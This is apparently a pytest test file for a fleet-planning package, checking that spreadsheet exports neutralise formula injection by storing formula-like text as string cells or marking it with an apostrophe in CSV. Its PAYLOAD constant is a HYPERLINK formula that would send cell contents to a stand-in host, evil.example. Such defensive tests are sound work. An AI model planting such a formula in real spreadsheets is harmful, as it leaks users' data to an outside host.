"""Formula injection (issue 13, item 5): user text in an exported spreadsheet
is a string cell or carries the CSV apostrophe mark, and reads back unchanged."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from fleetplan.domain import Dataset
from fleetplan.ingest import append_row, csv_text_in, csv_text_out, read_dataset
from fleetplan.ingest.neutral_writer import write_tables
from fleetplan.ingest.tabular import read_tables
from fleetplan.ingest.validation import validate_input
from tests.conftest import reference_path

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def test_a_formula_like_text_is_a_string_cell() -> None:
    """openpyxl alone stores "=…" as a formula (type "f"), which reads back
    empty with ``data_only``; through ``append_row`` it is the text itself."""
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("t")
        append_row(sheet, [PAYLOAD, "+45 1234", "-x", "@SUM(A1)", -2.5, None])
        buffer = io.BytesIO()
        book.save(buffer)
        back = load_workbook(io.BytesIO(buffer.getvalue()), data_only=True)["t"]
        (cells,) = back.iter_rows()
        assert [c.value for c in cells] == [PAYLOAD, "+45 1234", "-x", "@SUM(A1)", -2.5]
        assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n"]


@pytest.mark.parametrize(
    ("text", "in_csv"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+4512345678", "'+4512345678"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("'=x", "''=x"),  # a text that looks like a marked one is marked too
        ("'t Hoff", "'t Hoff"),
        ("Toyota", "Toyota"),
        ("", ""),
    ],
)
def test_csv_mark(text: str, in_csv: str) -> None:
    assert csv_text_out(text) == in_csv
    assert csv_text_in(in_csv) == text


@given(st.text(max_size=8))
def test_csv_mark_round_trips(text: str) -> None:
    assert csv_text_in(csv_text_out(text)) == text


def _with_payload(data: Dataset) -> Dataset:
    """The first location and vehicle carry the payload in their text fields."""
    location = replace(data.locations[0], name=PAYLOAD, address="-1 Main St")
    vehicle = replace(data.vehicles[0], make="@vendor", model=PAYLOAD)
    return replace(
        data,
        locations=(location, *data.locations[1:]),
        vehicles=(vehicle, *data.vehicles[1:]),
    )


def test_neutral_xlsx_holds_text_cells_and_round_trips(tmp_path: Path) -> None:
    data = _with_payload(read_dataset(reference_path("os2_fixture_seed42")))
    path = tmp_path / "fleet.xlsx"
    write_tables(data, path)
    book = load_workbook(path)
    for stem, column in (("locations", "name"), ("vehicles", "model")):
        sheet = book[stem]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert (cell.value, cell.data_type) == (PAYLOAD, "s")
    assert validate_input(read_tables(path)).dataset == data


def test_neutral_csv_marks_formulas_and_round_trips(tmp_path: Path) -> None:
    data = _with_payload(read_dataset(reference_path("os2_fixture_seed42")))
    write_tables(data, tmp_path / "out")
    text = (tmp_path / "out" / "locations.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in text
    assert ",'-1 Main St," in text
    assert read_dataset(tmp_path / "out") == data  # the engines' reader
    assert validate_input(read_tables(tmp_path / "out")).dataset == data  # imports
